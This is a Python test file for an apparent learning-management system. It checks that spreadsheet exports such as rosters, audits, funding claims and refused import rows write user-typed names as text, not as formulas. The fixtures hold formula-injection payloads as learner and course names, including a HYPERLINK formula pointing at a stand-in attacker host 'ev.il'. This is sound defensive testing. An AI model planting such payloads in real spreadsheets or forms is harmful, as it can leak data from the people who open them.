"""No export runs what a user typed: every text cell of every .xlsx the system hands out is text.

A learner named =HYPERLINK("http://ev.il/?F6","F6") (by a correction, a roster or an enrolment import)
and a course of that kind of name were written as live formulas into the police list, the funding claim,
the graduation audit, the quarterly report, the student-status export, the sign-in sheet, the 毕业生名册
and the refused rows of an import. Each export is opened with openpyxl: no cell is a formula (the system
writes none on purpose: INTENDED_FORMULAS is empty) or an error code, and the names read back intact.
"""
from __future__ import annotations

import io
from datetime import date

import pytest

from lms.auth.permissions import roles_with
from lms.certificates.services.batches import (
    create_diploma_batch,
    issue_batch,
    issue_directly,
    record_verification,
    submit_batch,
)
from lms.core.xlsx import Sheet, workbook_bytes
from lms.extensions import db
from lms.imports.registry import importer_classes
from tests.factories import (
    complete_everything,
    make_class,
    make_county,
    make_learner,
    make_plan,
    make_session,
    make_teaching_point,
    make_township,
    make_user,
    make_village,
    next_id_number,
    specialty_named,
)
from tests.support.documents import xlsx_cells

PAYLOAD = '=HYPERLINK("http://ev.il/?F6","F6")'
COURSE = '=HYPERLINK("http://ev.il/?C","C")'
# Graduates, then completers: every way a spreadsheet may read a cell as something else than text.
GRADUATES = (PAYLOAD, "+1+1", "-2+3")
COMPLETERS = ("@SUM(1,1)", "\t=1+1", "#N/A")
INTENDED_FORMULAS: set[tuple[str, str]] = set()     # (export, cell): none — the system writes no formulas
ISSUED_ON = date(2025, 8, 15)


@pytest.fixture
def county():
    """A 2022 class of six learners with such names, graduated or completed through the real services."""
    specialty = specialty_named("家政")
    courses = make_plan(specialty)
    courses[1].name = COURSE
    village = make_village(make_township(make_county("公式县"), "公式镇"), "公式村")
    klass = make_class(make_teaching_point(village), specialty=specialty, cohort=2022)
    learners = {name: make_learner(village, teaching_class=klass, specialty=specialty, name=name,
                                   enrolled_on=date(2022, 3, 1)) for name in GRADUATES + COMPLETERS}
    session = make_session(klass, held_on=date(2024, 5, 11), course=courses[1])
    for name in GRADUATES:
        complete_everything(learners[name], courses, on=date(2024, 6, 1))
    for name in COMPLETERS:
        complete_everything(learners[name], courses, on=date(2024, 6, 1), skip=(courses[1],))
    registrar = make_user("registrar")
    batch = create_diploma_batch(actor=registrar, name="公式批次", as_of=ISSUED_ON,
                                 learner_ids=[learners[name].id for name in GRADUATES])
    submit_batch(actor=registrar, batch=batch, submitted_on=ISSUED_ON, print_without_photo=True)
    record_verification(actor=registrar, batch=batch, verified_on=ISSUED_ON, reference="州教验〔2025〕9号")
    issue_batch(actor=registrar, batch=batch, issued_on=ISSUED_ON)
    issue_directly(actor=registrar, kind="completion", learner_ids=[learners[name].id for name in COMPLETERS],
                   issued_on=ISSUED_ON)
    db.session.flush()
    return {"registrar": registrar, "batch": batch, "session": session, "village": village}


def _refused_rows(client, county) -> bytes:
    """The refused rows of a roster upload whose row names PAYLOAD and has a wrong check digit."""
    number = next_id_number(birth_on=date(1980, 5, 6), sex="1")
    wrong = number[:-1] + ("1" if number[-1] != "1" else "2")
    # Written as text cells, as a user's Excel stores a name typed after a ' (a formula would arrive empty).
    data = workbook_bytes([Sheet("名册", ("姓名", "身份证号", "性别", "乡镇", "村", "文化程度", "联系电话", "备注"),
                                 [[PAYLOAD, wrong, "男", "公式镇", "公式村", "未上过学", "13812345678", COURSE]])])
    page = client.post_form("/imports/roster/", {"file": (io.BytesIO(data), "名册.xlsx")},
                            content_type="multipart/form-data").get_data(as_text=True)
    url = page.split('id="refused-download" href="')[1].split('"')[0].replace("&amp;", "&")
    return client.get(url).data


def _exports(client, county) -> dict[str, tuple[bytes, tuple[str, ...]]]:
    """export name → (xlsx bytes, the typed texts it must hold intact). The funding sheets of the quarterly
    report list graduates only (R14's default basis)."""
    batch, session = county["batch"], county["session"]
    learners = GRADUATES + COMPLETERS
    got = {
        "police.xlsx": (client.get("/certificates/exports/police.xlsx").data, GRADUATES),
        "funding.xlsx": (client.get("/certificates/exports/funding.xlsx").data, learners),
        "毕业审核.xlsx": (client.get("/graduation/audit.xlsx?as_of=2024-07-01").data, learners + (COURSE,)),
        "quarterly.xlsx": (client.get("/reports/quarterly.xlsx?period=2025Q3").data, GRADUATES),
        "学籍注册.xlsx": (client.post_form("/learners/export", {"cohort": "2022"}).data, learners),
        "sign-in.xlsx": (client.get(f"/sessions/{session.id}/sign-in.xlsx").data, learners + (COURSE,)),
        "毕业生名册.xlsx": (client.get(f"/certificates/batches/{batch.id}/roster.xlsx").data, GRADUATES),
        "refused.xlsx": (_refused_rows(client, county), (PAYLOAD, COURSE)),
    }
    for kind, cls in importer_classes().items():
        client.logout()
        client.login(make_user(min(roles_with(cls.capability))).username)
        got[f"{kind} template.xlsx"] = (client.get(f"/imports/{kind}/template.xlsx").data, ())
    return got


def test_every_export_writes_typed_text_as_text_and_no_formula(client, county):
    client.login(county["registrar"].username)
    problems = []
    for export, (data, texts) in _exports(client, county).items():
        assert data[:2] == b"PK", f"{export}: {data[:300]!r}"
        values = []
        for title, cell in xlsx_cells(data):
            values.append(str(cell.value))
            if cell.data_type in ("f", "e") and (export, cell.coordinate) not in INTENDED_FORMULAS:
                problems.append(f"{export} {title}!{cell.coordinate} is {cell.data_type!r}: {cell.value!r}")
        # A name is a cell of its own; a course name may be part of a reason (毕业审核's 原因).
        problems += [f"{export} lost {text!r}" for text in texts
                     if text not in values and not (text == COURSE and any(text in value for value in values))]
    assert problems == [], "\n".join(problems)


def test_the_writer_keeps_numbers_and_dates_and_writes_every_string_as_text():
    from openpyxl import load_workbook

    from lms.core.xlsx import Sheet, workbook_bytes

    data = workbook_bytes([Sheet("表", ("文字", "数字", "日期"), [(PAYLOAD, 3, date(2025, 3, 1)), ("=1+1", 2.5, None)],
                                 heading="=1+1", lines=("+1",))])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [(c.value, c.data_type) for c in sheet[1] if c.value] == [("=1+1", "s")]
    assert [(c.value, c.data_type) for c in sheet[2] if c.value] == [("+1", "s")]
    assert [(c.value, c.data_type) for c in sheet[4]][:2] == [(PAYLOAD, "s"), (3, "n")]
    assert sheet["C4"].is_date and sheet["A5"].value == "=1+1" and sheet["A5"].data_type == "s"
